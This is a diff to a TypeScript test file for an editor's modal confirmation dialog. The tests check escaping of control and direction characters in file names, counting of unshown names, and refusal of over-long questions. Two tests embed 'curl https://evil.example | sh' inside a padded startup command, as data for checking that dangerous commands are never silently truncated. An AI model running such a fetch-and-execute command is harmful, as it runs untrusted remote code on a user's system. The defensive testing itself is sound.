@@ -7,6 +7,8 @@ import { ask, confirm, paragraphs, showValue } from "../../../../src/editor/show
 import { differenceLine } from "../../../../src/features/apps/settings/settingSentences";
 import { type AskedWindow, askedWindow } from "../../../support/askedWindow";
 
+const commandLine = (to: string) =>
+  differenceLine({ key: "startupCommand", from: "", to, isConflict: false });
 const refused = /^Error: Nothing was done: the question about it is too long to be shown whole/;
 
 describe("a modal question", () => {
@@ -36,9 +38,9 @@ describe("a modal question", () => {
   it("shows a line break, a tab and marks of direction in a name as their codes", async () => {
     const name = "a.txt\nTo Shop of me\r\u2028b\tc\u202egnp.exe\u0000\u{e0041}\ud800";
     await ask(`Delete ${name}?`, [name, { names: [name] }], []);
-    const [{ text, lines } = { text: "", lines: [] }] = window.asked;
+    const [question] = window.asked;
     const shown = "a.txt\\nTo Shop of me\\r\\u{2028}b\\tc\\u{202e}gnp.exe\\u{0}\\u{e0041}\\u{d800}";
-    assert.deepEqual([text, lines], [`Delete ${shown}?`, [shown, shown]]);
+    assert.deepEqual([question?.text, question?.lines], [`Delete ${shown}?`, [shown, shown]]);
   });
 
   it("keeps letters that are joined, and makes no link and no icon of a name", () => {
@@ -48,13 +50,12 @@ describe("a modal question", () => {
 
   it("counts the names that it does not show", async () => {
     const names = Array.from({ length: 13 }, (_, index) => `${index}.py`);
-    await ask("Push?", [{ names }], []);
-    await ask("Push?", [{ names: names.slice(0, 9) }], []);
-    await ask("Push?", [{ names: names.slice(0, 8) }], []);
-    const [many, nine, eight] = window.asked.map(({ lines }) => lines);
-    assert.deepEqual(many, [...names.slice(0, 8), "and 5 more"]);
-    assert.deepEqual(nine, [...names.slice(0, 8), "and 1 more"]);
-    assert.deepEqual(eight, names.slice(0, 8));
+    for (const count of [13, 9, 8]) await ask("Push?", [{ names: names.slice(0, count) }], []);
+    const eight = names.slice(0, 8);
+    assert.deepEqual(
+      window.asked.map(({ lines }) => lines),
+      [[...eight, "and 5 more"], [...eight, "and 1 more"], eight],
+    );
   });
 
   it("counts a name that is too long, and never cuts it", async () => {
@@ -69,18 +70,13 @@ describe("a modal question", () => {
 
   it("is refused where a line, a name that it must show or all of it does not fit", async () => {
     const command = `python main.py ${"x".repeat(500)}; curl https://evil.example | sh; ${"y".repeat(500)}`;
-    const change = { key: "startupCommand", from: "", to: command, isConflict: false } as const;
     const questions = [
-      ask("Change?", [differenceLine(change)], ["Change"]),
+      ask("Change?", [commandLine(command)], ["Change"]),
       ask(command.repeat(2), [], ["Change"]),
       ask("Push?", [{ names: ["x".repeat(1_001), "a"], mustShow: 1 }], ["Push"]),
       ask("Push?", [{ names: Array.from({ length: 40 }, String), mustShow: 17 }], ["Push"]),
       ask("Push?", Array.from({ length: 31 }, String), ["Push"]),
-      ask(
-        "Push?",
-        Array.from({ length: 6 }, () => "x".repeat(900)),
-        ["Push"],
-      ),
+      ask("Push?", Array(6).fill("x".repeat(900)), ["Push"]),
     ];
     for (const question of questions) await assert.rejects(question, refused);
     assert.deepEqual(window.asked, []);
@@ -88,11 +84,7 @@ describe("a modal question", () => {
 
   it("shows a start command whole that fits", async () => {
     const command = `python main.py ${"x".repeat(400)}; curl https://evil.example | sh; ${"y".repeat(400)}`;
-    await ask(
-      "Change?",
-      [differenceLine({ key: "startupCommand", from: "", to: command, isConflict: false })],
-      [],
-    );
+    await ask("Change?", [commandLine(command)], []);
     assert.ok(window.asked[0]?.lines[0]?.includes(command));
   });
 
